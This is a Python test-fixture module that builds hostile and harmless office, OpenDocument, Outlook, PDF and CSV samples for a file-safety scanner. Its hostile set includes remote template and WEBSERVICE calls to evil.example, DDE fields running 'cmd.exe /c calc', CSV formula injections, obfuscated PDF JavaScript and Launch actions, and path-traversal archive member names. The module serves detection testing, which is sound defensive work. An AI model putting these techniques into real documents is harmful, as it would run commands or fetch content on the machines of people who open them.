"""Files that can act on whoever opens them, and the harmless ones that look like them.

Each is made from a file as an office program writes it, with one thing added.
"""

import io
import warnings
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pikepdf
import xlsxwriter
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from pikepdf import Array, Dictionary, Name

from tests.support.evidence_samples import OFFICE, compound, image, pdf, word

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE = compound("\x01Ole10Native", "\x01CompObj")
PRESENTATION = f"{OFFICE}presentationml.presentation.main+xml"


def members(content: bytes) -> dict[str, bytes]:
    """The members of an archive by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(*named: tuple[str, bytes], comment: bytes = b"") -> bytes:
    """An archive of these members, some of which may have the same name."""
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w") as archive:
        warnings.simplefilter("ignore")  # of two members of one name
        for name, content in named:
            info = zipfile.ZipInfo("placeholder")
            info.filename = info.orig_filename = name
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
        archive.comment = comment
    return file.getvalue()


def with_members(content: bytes, *more: tuple[str, Any]) -> bytes:
    """The archive with more members behind its own."""
    return zipped(
        *members(content).items(),
        *((name, each.encode() if isinstance(each, str) else each) for name, each in more),
    )


def relation(kind: str, target: str, mode: str = "External", id: str = "rId900") -> str:
    """A file of relationships with one; `kind` is whole, or the last part of a usual one."""
    kind = kind if "/" in kind else f"{R}/{kind}"
    outside = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="{RELATIONS}">'
        f'<Relationship Id="{id}" Type="{kind}" Target="{target}"{outside}/></Relationships>'
    )


def related(part: str, kind: str, target: str, mode: str = "External") -> bytes:
    """A Word document with one more relationship, of a part that had none."""
    return with_members(word(), (f"word/_rels/{part}.rels", relation(kind, target, mode)))


def body(markup: str) -> bytes:
    """A Word document with this in its text."""
    document = docx.Document()
    document.add_paragraph("Minutes")._p.append(parse_xml(markup))
    return saved(document)


def saved(document: Any) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def field(*runs: str) -> bytes:
    """A Word document with a field; a run is `<`, `|` or `>` for its marks, or a text of it."""
    marks = {"<": "begin", "|": "separate", ">": "end"}
    written = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[run]}"/></w:r>'
        if run in marks
        else f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
        for run in runs
    )
    return body(f"<w:hyperlink {W}>{written}</w:hyperlink>")


def workbook(fill: Callable[[Any, Any], None] = lambda book, sheet: None) -> bytes:
    """An Excel workbook as XlsxWriter makes it."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet("Results")
        sheet.write_column("A1", [1, 2, 3])
        fill(book, sheet)
    return file.getvalue()


def in_workbook(kind: str, target: str, mode: str, *more: tuple[str, str]) -> bytes:
    """A workbook whose first sheet has this relationship."""
    relations = ("xl/worksheets/_rels/sheet1.xml.rels", relation(kind, target, mode))
    return with_members(workbook(), relations, *more)


def slides(markup: str = "", relations: str = "") -> bytes:
    """A presentation with one slide."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/ppt/presentation.xml" ContentType="{PRESENTATION}"/>'
        "</Types>"
    )
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/main"
    slide = f'<p:sld xmlns:p="urn:p" xmlns:a="{drawing}" xmlns:r="{R}">{markup}</p:sld>'
    return zipped(
        ("[Content_Types].xml", types.encode()),
        ("ppt/presentation.xml", b"<presentation/>"),
        ("ppt/slides/slide1.xml", slide.encode()),
        *([("ppt/slides/_rels/slide1.xml.rels", relations.encode())] if relations else []),
    )


def chart(package: bytes, folder: str = "word/charts") -> bytes:
    """A Word document with a chart that carries its numbers in this workbook."""
    return with_members(
        word(),
        (f"{folder}/chart1.xml", f'<c:chartSpace xmlns:c="urn:c" xmlns:r="{R}"/>'),
        (
            f"{folder}/_rels/chart1.xml.rels",
            relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", ""),
        ),
        ("word/embeddings/Microsoft_Excel_Sheet.xlsx", package),
    )


def linked_word() -> bytes:
    """A Word document as many are: links, a picture, fields for pages and contents, a footer."""
    document = docx.Document()
    document.add_picture(io.BytesIO(image("PNG")))
    for address in ("https://www.gov.uk/", "mailto:a@b.example", "file:///S:/Schools/plan.docx"):
        document.part.relate_to(address, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.add_paragraph("See the guidance")._p.append(
        parse_xml(f'<w:hyperlink {W} xmlns:r="{R}" r:id="rId9"/>')
    )
    return saved(document)


# OpenDocument --------------------------------------------------------------------------------

_SPACES = " ".join(
    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in (
        *(("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table")),
        *(("script", "script"), ("presentation", "presentation"), ("meta", "meta")),
    )
)
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def opened(markup: str, *more: tuple[str, Any], part: str = "content.xml") -> bytes:
    """An OpenDocument text with this in one of its parts."""
    content = f"<office:document {_SPACES} {XLINK}>{markup}</office:document>"
    parts = {"content.xml": f"<office:document {_SPACES}/>", part: content}
    return with_members(
        zipped(("mimetype", b"application/vnd.oasis.opendocument.text")), *parts.items(), *more
    )


def encrypted_open_document() -> bytes:
    """As LibreOffice protects a document: its parts are no XML any more."""
    name = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = (
        f'<m:manifest xmlns:m="{name}"><m:file-entry m:full-path="content.xml">'
        "<m:encryption-data/></m:file-entry></m:manifest>"
    )
    return zipped(
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<\x8c\x01 not XML"),
        ("META-INF/manifest.xml", manifest.encode()),
    )


# What is refused: the name, the file, and what the refusal says ---------------------------------

TEMPLATE = "tied to a template"
OUTSIDE = "loads something from elsewhere"
OBJECT = "embedded in it"
CONTROL = "ActiveX"
PROGRAMS = "macros or scripts"
LINKED = "takes data from another file"
DDE = "starts another program (DDE)"
COMPUTED = "only says what it does when it is opened"
ODD = "not put together as an Office program does it"
_CALC = "cmd.exe /c calc"
_LINK = f'<Relationships xmlns="{RELATIONS}">' + (
    f'<Relationship Id="rId5" Type="{R}/hyperlink" Target="https://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a template elsewhere": (
        "a.docx",
        lambda: related("settings.xml", "attachedTemplate", "https://evil.example/t.dotm"),
        TEMPLATE,
    ),
    "a template elsewhere that calls itself a link": (
        "a.docx",
        lambda: with_members(
            word(),
            (
                "word/settings2.xml",
                f'<w:s {W} xmlns:r="{R}"><w:attachedTemplate r:id="rId5"/></w:s>',
            ),
            ("word/_rels/settings2.xml.rels", _LINK),
        ),
        TEMPLATE,
    ),
    "a picture elsewhere": (
        "a.docx",
        lambda: related("footnotes.xml", "image", "https://evil.example/x.png"),
        OUTSIDE,
    ),
    "a picture elsewhere, with a relationship of another case": (
        "a.docx",
        lambda: with_members(
            word(), ("word/_RELS/footnotes.xml.RELS", relation("image", "//evil.example/x.png"))
        ),
        OUTSIDE,
    ),
    "a picture elsewhere that seems to be inside": (
        "a.docx",
        lambda: related("footnotes.xml", "image", "https://evil.example/x.png", ""),
        OUTSIDE,
    ),
    "a picture elsewhere in an old drawing": (
        "a.docx",
        lambda: body(
            f'<w:pict {W} xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:imagedata src="https://evil.example/x.png"/></w:pict>'
        ),
        OUTSIDE,
    ),
    "a frame": (
        "a.docx",
        lambda: related("webSettings.xml", "frame", "https://e.example/"),
        OUTSIDE,
    ),
    "a part elsewhere": (
        "a.docx",
        lambda: related("x.xml", "subDocument", "file:///x.docx"),
        OUTSIDE,
    ),
    "another format taken in": (
        "a.docx",
        lambda: related("x.xml", "aFChunk", "a.html", ""),
        OBJECT,
    ),
    "an object elsewhere": (
        "a.docx",
        lambda: related("x.xml", "oleObject", "mhtml:https://evil.example/x.html!x-usc:y"),
        OUTSIDE,
    ),
    "an object": ("a.docx", lambda: related("x.xml", "oleObject", "embeddings/o.bin", ""), OBJECT),
    "an object in the strict format": (
        "a.docx",
        lambda: related(
            "x.xml",
            "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject",
            "o.bin",
            "",
        ),
        OBJECT,
    ),
    "an object without a relationship": (
        "a.docx",
        lambda: with_members(word(), ("word/media/image1.png", OLE)),
        OBJECT,
    ),
    "an object in a sheet": (
        "a.xlsx",
        lambda: in_workbook("oleObject", "../embeddings/o.bin", ""),
        OBJECT,
    ),
    "an object on a slide": ("a.pptx", lambda: slides("<p:oleObj progId='Package'/>"), OBJECT),
    "a program": (
        "a.docx",
        lambda: with_members(word(), ("word/media/a.png", b"MZ\x90\0")),
        OBJECT,
    ),
    "a document in a document": (
        "a.docx",
        lambda: with_members(word(), ("word/embeddings/b.docx", word())),
        OBJECT,
    ),
    "a document for a chart": ("a.docx", lambda: chart(word()), OBJECT),
    "a chart's workbook with links": (
        "a.docx",
        lambda: chart(in_workbook("externalLink", "externalLinks/e.xml", "")),
        LINKED,
    ),
    "a chart's workbook with an object": (
        "a.docx",
        lambda: chart(with_members(workbook(), ("xl/embeddings/o.bin", OLE))),
        OBJECT,
    ),
    "a workbook that no chart carries": (
        "a.docx",
        lambda: chart(workbook(), "word/parts"),
        OBJECT,
    ),
    "ActiveX": ("a.docx", lambda: related("x.xml", "control", "activeX/a.xml", ""), CONTROL),
    "ActiveX in a sheet": (
        "a.xlsx",
        lambda: in_workbook("control", "../activeX/activeX1.xml", ""),
        CONTROL,
    ),
    "macros under another name": (
        "a.docx",
        lambda: related("x.xml", f"{MICROSOFT}/2006/relationships/vbaProject", "x.dat", ""),
        PROGRAMS,
    ),
    "a menu of its own": (
        "a.docx",
        lambda: related("x.xml", f"{MICROSOFT}/2006/relationships/ui/extensibility", "u.xml", ""),
        PROGRAMS,
    ),
    "an add-in": (
        "a.docx",
        lambda: related("x.xml", f"{MICROSOFT}/2011/relationships/webextension", "w.xml", ""),
        PROGRAMS,
    ),
    "a link to a workbook": (
        "a.xlsx",
        lambda: in_workbook("externalLinkPath", "file:///S:/b.xlsx", "External"),
        LINKED,
    ),
    "a link to a program": (
        "a.xlsx",
        lambda: with_members(
            workbook(),
            (
                "xl/externalLinks/externalLink1.xml",
                '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            ),
        ),
        "has a link that starts another program (DDE)",
    ),
    "a formula that fetches": (
        "a.xlsx",
        lambda: workbook(
            lambda _, sheet: sheet.write_formula("B1", '=_xlfn.WEBSERVICE("https://evil.example")')
        ),
        OUTSIDE,
    ),
    "a formula that fetches, in pieces": (
        "a.xlsx",
        lambda: with_members(
            workbook(),
            ("xl/x.xml", "<s><f>WEB<!-- --><b>SER<f/></b><![CDATA[VICE]]>&#40;1)</f></s>"),
        ),
        OUTSIDE,
    ),
    "a picture by a formula": (
        "a.xlsx",
        lambda: workbook(
            lambda book, _: book.define_name("x", '=_xlfn.IMAGE("https://evil.example")')
        ),
        OUTSIDE,
    ),
    "a database": ("a.xlsx", lambda: in_workbook("connections", "connections.xml", ""), LINKED),
    "a field DDEAUTO": ("a.docx", lambda: field("<", f"DDEAUTO {_CALC}", "|", ">"), DDE),
    "a field DDE in pieces": ("a.docx", lambda: field("<", " d", "d", "E ", _CALC, ">"), DDE),
    "a field DDE in the result of another": (
        "a.docx",
        lambda: field("<", "PAGE", "|", "<", "DDEAUTO x", ">", ">"),
        DDE,
    ),
    "a field DDE without an end": ("a.docx", lambda: field("<", f"DDE {_CALC}"), DDE),
    "a field DDE written short": (
        "a.docx",
        lambda: body(f'<w:fldSimple {W} w:instr=" DDEAUTO cmd"/>'),
        DDE,
    ),
    "a field that is computed": (
        "a.docx",
        lambda: field("<", "<", "QUOTE 68 68 69", "|", ">", " cmd", "|", ">"),
        COMPUTED,
    ),
    "a field that takes a picture": (
        "a.docx",
        lambda: field("<", ' INCLUDEPICTURE "https://evil.example/x.png" ', "|", ">"),
        OUTSIDE,
    ),
    "a field that takes a file": ("a.docx", lambda: field("<", "INCLUDETEXT x", ">"), OUTSIDE),
    "a button that starts a program": (
        "a.pptx",
        lambda: slides('<a:hlinkClick r:id="" action="ppaction://program"/>'),
        "starts a program",
    ),
    "a film elsewhere": (
        "a.pptx",
        lambda: slides(relations=relation("video", "https://evil.example/x.mp4")),
        OUTSIDE,
    ),
    "declarations": (
        "a.docx",
        lambda: with_members(
            word(), ("word/x.xml", '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>')
        ),
        ODD,
    ),
    "no markup at all": ("a.docx", lambda: with_members(word(), ("word/x.xml", "<x><y></x>")), ODD),
    "a member twice": (
        "a.docx",
        lambda: with_members(word(), ("word/document.xml", "<other/>")),
        ODD,
    ),
    "a member twice, by case": (
        "a.docx",
        lambda: with_members(word(), ("Word/Document.XML", "<other/>")),
        ODD,
    ),
    "a member twice, by its escaped name": (
        "a.docx",
        lambda: with_members(word(), ("word/%64ocument.xml", "<other/>")),
        ODD,
    ),
    **{
        f"a member named {name!r}": (
            "a.docx",
            lambda name=name: with_members(word(), (name, "x")),  # type: ignore[misc]
            ODD,
        )
        for name in (
            *("/etc/passwd", "../x", "word/../x", "word/./x", "word\\x", "C:x", "word//x"),
            *("word/x.", "word/x ", "word/ x /..", "a\x01b", "a\u202eb", "%2e%2e/x", "a\x00b"),
        )
    },
    "a locked member": (
        "a.docx",
        lambda: _locked(word()),
        "protected with a password",
    ),
    "another archive behind": (
        "a.docx",
        lambda: zipped(*members(word()).items(), comment=word()[:60000]),
        ODD,
    ),
    "another archive before": ("a.docx", lambda: workbook() + word(), ODD),
    "a member that unpacks to very much": (
        "a.docx",
        lambda: with_members(word(), ("word/media/image1.bmp", bytes(20_000_000))),
        "far larger when unpacked than it should be",
    ),
    "OpenDocument: a picture elsewhere": (
        "a.odt",
        lambda: opened('<draw:image xlink:href="https://evil.example/x.png"/>'),
        OUTSIDE,
    ),
    "OpenDocument: a picture beside it": (
        "a.odt",
        lambda: opened('<draw:image xlink:href="../x.png"/>'),
        OUTSIDE,
    ),
    "OpenDocument: a linked section": (
        "a.odt",
        lambda: opened('<text:section-source xlink:href="file:///S:/x.odt"/>'),
        OUTSIDE,
    ),
    "OpenDocument: a frame": (
        "a.odt",
        lambda: opened('<draw:floating-frame xlink:href="https://evil.example/"/>'),
        OUTSIDE,
    ),
    "OpenDocument: a template": (
        "a.odt",
        lambda: opened('<meta:template xlink:href="../../t.ott"/>', part="meta.xml"),
        TEMPLATE,
    ),
    "OpenDocument: a page that reloads": (
        "a.odt",
        lambda: opened('<meta:auto-reload xlink:href="http://e.example"/>', part="meta.xml"),
        OUTSIDE,
    ),
    "OpenDocument: in a style": (
        "a.odt",
        lambda: opened('<draw:fill-image xlink:href="//evil.example/x"/>', part="styles.xml"),
        OUTSIDE,
    ),
    "OpenDocument: in an object within": (
        "a.odt",
        lambda: opened('<draw:image xlink:href="http://e.example"/>', part="Object 1/content.xml"),
        OUTSIDE,
    ),
    "OpenDocument: a script": (
        "a.odt",
        lambda: opened('<script:event-listener script:language="ooo:script"/>'),
        PROGRAMS,
    ),
    "OpenDocument: a script behind a link": (
        "a.odt",
        lambda: opened('<text:a xlink:href="vnd.sun.star.script:a?language=Python"/>'),
        PROGRAMS,
    ),
    "OpenDocument: a program behind a shape": (
        "a.odp",
        lambda: zipped(
            ("mimetype", b"application/vnd.oasis.opendocument.presentation"),
            *(
                (name, content)
                for name, content in members(
                    opened(
                        '<presentation:event-listener presentation:action="execute" '
                        'xlink:href="file:///c:/calc.exe"/>'
                    )
                ).items()
                if name != "mimetype"
            ),
        ),
        PROGRAMS,
    ),
    "OpenDocument: DDE": (
        "a.odt",
        lambda: opened('<office:dde-source office:dde-application="soffice"/>'),
        "has a link that starts another program (DDE)",
    ),
    "OpenDocument: DDE in a formula": (
        "a.odt",
        lambda: opened('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
        "has a link that starts another program (DDE)",
    ),
    "OpenDocument: an object": ("a.odt", lambda: opened("", ("Object 1", OLE)), OBJECT),
    "OpenDocument: an object by its element": (
        "a.odt",
        lambda: opened('<draw:object-ole xlink:href="./Object 1"/>'),
        OBJECT,
    ),
    "OpenDocument: an archive": ("a.odt", lambda: opened("", ("Pictures/a.png", word())), OBJECT),
    "OpenDocument: declarations": (
        "a.odt",
        lambda: opened("", ("a.xml", '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>')),
        ODD,
    ),
    "OpenDocument: a password": ("a.odt", encrypted_open_document, "protected with a password"),
    "OpenDocument: a member twice": (
        "a.odt",
        lambda: opened("", ("CONTENT.xml", "<other/>")),
        ODD,
    ),
    "Outlook: an object": (
        "a.msg",
        lambda: compound(
            "__nameid_version1.0", "__properties_version1.0", nested="\x01Ole10Native"
        ),
        OBJECT,
    ),
    "Outlook: macros": (
        "a.msg",
        lambda: compound("__nameid_version1.0", "__properties_version1.0", "_VBA_PROJECT"),
        OBJECT,
    ),
    "PDF: a password": ("a.pdf", lambda: _protected("needed"), "protected with a password"),
}


def _locked(content: bytes) -> bytes:
    """The archive, with the mark of an encrypted member in its directory."""
    start = content.rindex(b"PK\x01\x02") + 8
    return content[:start] + b"\x01" + content[start + 1 :]


# What is kept, and must not be refused ------------------------------------------------------

HARMLESS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "links and a picture": ("a.docx", linked_word),
    "fields that only show": (
        "a.docx",
        lambda: field(
            *("<", " PAGE ", "|", "1", ">", "<", 'TOC \\o "1-3"', "|", ">"),
            *("<", " IF ", "<", " MERGEFIELD a ", "|", ">", ' = "x" "DDE" ', "|", ">"),
            *("<", "=", "<", "PAGE", ">", "-1", "|", ">", "<", ' HYPERLINK "https://x" ', ">"),
            *("<", " MACROBUTTON NoMacro [Click here] ", ">"),
        ),
    ),
    "words about fields": ("a.docx", lambda: body(f"<w:r {W}><w:t>DDEAUTO cmd</w:t></w:r>")),
    "a chart": ("a.docx", lambda: chart(workbook())),
    "a workbook with links, pictures, comments and charts": (
        "a.xlsx",
        lambda: workbook(_furnish),
    ),
    "a presentation with a link": (
        "a.pptx",
        lambda: slides('<a:hlinkClick r:id="rId900"/>', relation("hyperlink", "https://x.example")),
    ),
    "a drawing that declares": (
        "a.docx",
        lambda: with_members(
            word(),
            (
                "word/media/image1.svg",
                '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "urn:x">]>'
                '<svg xmlns="http://www.w3.org/2000/svg" id="&ns;"/>',
            ),
        ),
    ),
    "OpenDocument": (
        "a.odt",
        lambda: opened(
            '<office:scripts/><text:a xlink:href="https://x.example"/>'
            '<text:a xlink:href="../plan.odt"/><draw:image xlink:href="Pictures/1.png"/>'
            '<draw:object xlink:href="./Object 1"/><text:a xlink:href="#place"/>'
            '<table:table-cell table:formula="of:=SUM([.A1:.A3])"/>',
            ("Pictures/1.png", image("PNG")),
            ("Object 1/content.xml", "<office/>"),
            ("Configurations2/accelerator/", b""),
            (
                "Configurations2/accelerator/current.xml",
                '<!DOCTYPE accel:l PUBLIC "-//OpenOffice.org//DTD" "l.dtd"><accel:l '
                'xmlns:accel="http://openoffice.org/2001/accel"/>',
            ),
        ),
    ),
    "Outlook with a message attached": (
        "a.msg",
        lambda: compound(
            *("__attach_version1.0_#00000000", "__nameid_version1.0", "__properties_version1.0"),
            nested="__properties_version1.0",
        ),
    ),
    "a PDF that only its owner may change": ("a.pdf", lambda: _protected("")),
    "a PDF with a link and bookmarks": ("a.pdf", lambda: acting(_link)),
    "a table": (
        "a.csv",
        lambda: (
            b'Name,Change\r\n"O\'Neill, Ann",-12.5\r\nBo,+3%\r\nCy,-\r\n,"-1,200"\r\nb-c,a=b\r\n'
        ),
    ),
}


def _furnish(book: Any, sheet: Any) -> None:
    sheet.write_url("B1", "https://www.gov.uk/")
    sheet.write_formula("B2", "=SUM(A1:A3)")
    sheet.write("B4", "WEBSERVICE(1) is a function")
    sheet.write_comment("B3", "A comment")
    sheet.insert_image("C1", "a.png", {"image_data": io.BytesIO(image("PNG"))})
    sheet.insert_checkbox("D1", True)
    drawn = book.add_chart({"type": "column"})
    drawn.add_series({"values": "=Results!$A$1:$A$3"})
    sheet.insert_chart("E1", drawn)


# What is kept with a warning -----------------------------------------------------------------


def acting(change: Callable[[pikepdf.Pdf], None], **save: Any) -> bytes:
    """A PDF with one page, changed."""
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(file, **save)
    return file.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    """An action of this kind."""
    return Dictionary(S=Name(f"/{kind}"), **more)


def script() -> Dictionary:
    return action("JavaScript", JS="app.alert(1)")


def _protected(user: str) -> bytes:
    return acting(lambda _: None, encryption=pikepdf.Encryption(owner="owner", user=user))


def _link(document: pikepdf.Pdf) -> None:
    uri = action("URI", URI="https://www.gov.uk/JavaScript/JS /Launch")
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=uri)
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("JavaScript", 0))


def _opens_with(what: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = what()

    return change


def _on_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=script())


def _named(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))


def _annotated(document: pikepdf.Pdf) -> None:
    first = action("GoTo", Next=document.make_indirect(action("Launch", F="calc.exe")))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=first)
    document.pages[0].obj.Annots = Array([note])


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")  # type: ignore[call-arg]


def _film(document: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].obj.Annots = Array([note])


_PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


def _disguised() -> bytes:
    """JavaScript with its names written by number, which every reader reads the same."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aava#53cript/#4a#53(app.alert\\(1\\))>>>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
    )
    content, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return content + (
        b"xref\n0 3\n0000000000 65535 f \n%strailer\n<</Size 3/Root 1 0 R>>\n"
        b"startxref\n%d\n%%%%EOF\n" % (table, len(content))
    )


def _damaged() -> bytes:
    """Without the table that says where its objects are."""
    content = acting(_opens_with(script), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return content[: content.rindex(b"startxref")]


WARNED: dict[str, tuple[str, Callable[[], bytes], set[str]]] = {
    "when it opens": ("a.pdf", lambda: acting(_opens_with(script)), {"javascript"}),
    "packed": ("a.pdf", lambda: acting(_opens_with(script), **_PACKED), {"javascript"}),
    "by number": ("a.pdf", _disguised, {"javascript"}),
    "on a page": ("a.pdf", lambda: acting(_on_page, **_PACKED), {"javascript"}),
    "by name": ("a.pdf", lambda: acting(_named, **_PACKED), {"javascript"}),
    "in a note, afterwards": ("a.pdf", lambda: acting(_annotated, **_PACKED), {"launch"}),
    "another document": (
        "a.pdf",
        lambda: acting(_opens_with(lambda: action("GoToR", F="x.pdf"))),
        {"launch"},
    ),
    "an address at once": (
        "a.pdf",
        lambda: acting(_opens_with(lambda: action("URI", URI="https://evil.example"))),
        {"sends"},
    ),
    "sending a form": (
        "a.pdf",
        lambda: acting(_opens_with(lambda: action("SubmitForm"))),
        {"sends"},
    ),
    "a form of programs": ("a.pdf", lambda: acting(_form), {"xfa"}),
    "a file inside": ("a.pdf", lambda: acting(_attached), {"attached_files"}),
    "a film": ("a.pdf", lambda: acting(_film), {"media"}),
    "damaged": ("a.pdf", _damaged, {"javascript", "not_examined"}),
    "no more than a beginning": ("a.pdf", lambda: b"%PDF-1.7\nand nothing", {"not_examined"}),
    **{
        f"a table with {cell!r}": (
            "a.csv",
            lambda cell=cell: f"Name;Note\r\nAnn;{cell}\r\n".encode(),  # type: ignore[misc]
            {"formulas"},
        )
        for cell in (
            *("=1+1", "=cmd|'/c calc'!A0", "@SUM(1)", '"  =1"', "\u00a0=1", "\ufeff=1", "＝1"),
            *("-cmd|x", "+A1", "－A1", '"\n=1"', "\u200b@x"),
        )
    },
    "a table by commas": ("a.csv", lambda: b"a,b\n1,=2\n", {"formulas"}),
    "a table by tabs": ("a.csv", lambda: b"a\tb\n1\t=2\n", {"formulas"}),
    "a table that is another kind": ("a.csv", lambda: b"ID;PWXL;N;E\nC;X1;Y1;EDDE\n", {"formulas"}),
}
